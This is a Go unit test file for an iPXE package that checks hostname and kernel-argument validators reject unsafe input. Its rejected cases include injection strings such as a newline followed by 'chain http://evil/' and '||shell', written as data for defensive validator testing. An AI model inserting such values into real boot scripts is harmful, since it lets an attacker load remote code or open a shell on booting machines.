package ipxe

import (
	"errors"
	"strings"
	"testing"
)

func TestCheckHostname(t *testing.T) {
	for _, ok := range []string{"master-0", "a", "worker-12.rack1.example.com", strings.Repeat("a", 63)} {
		if err := CheckHostname(ok); err != nil {
			t.Errorf("CheckHostname(%q) = %v, want nil", ok, err)
		}
	}
	for _, bad := range []string{"", "-lead", "trail-", "a..b", "has space", "x\nchain http://evil/", "${net0/mac}", "a||shell", strings.Repeat("a", 64), strings.Repeat("a.", 127) + "ab", "under_score"} {
		err := CheckHostname(bad)
		if !errors.Is(err, ErrUnsafe) {
			t.Errorf("CheckHostname(%q) = %v, want ErrUnsafe", bad, err)
		}
	}
}

func TestCheckKernelArgs(t *testing.T) {
	for _, ok := range []string{"", "console=ttyS0", "console=tty0 console=ttyS0,115200n8 ip=dhcp rd.neednet=1", "coreos.live.rootfs_url=http://10.99.0.1:8080/rootfs.img", "ignition.platform.id=metal"} {
		if err := CheckKernelArgs(ok); err != nil {
			t.Errorf("CheckKernelArgs(%q) = %v, want nil", ok, err)
		}
	}
	for _, bad := range []string{"console=ttyS0\nshell", "a ${x}", "quiet || shell", "a;b", "a & b", "x\"y", "a\\b", "#c", "a\tb", "a\rb"} {
		if err := CheckKernelArgs(bad); !errors.Is(err, ErrUnsafe) {
			t.Errorf("CheckKernelArgs(%q) = %v, want ErrUnsafe", bad, err)
		}
	}
}
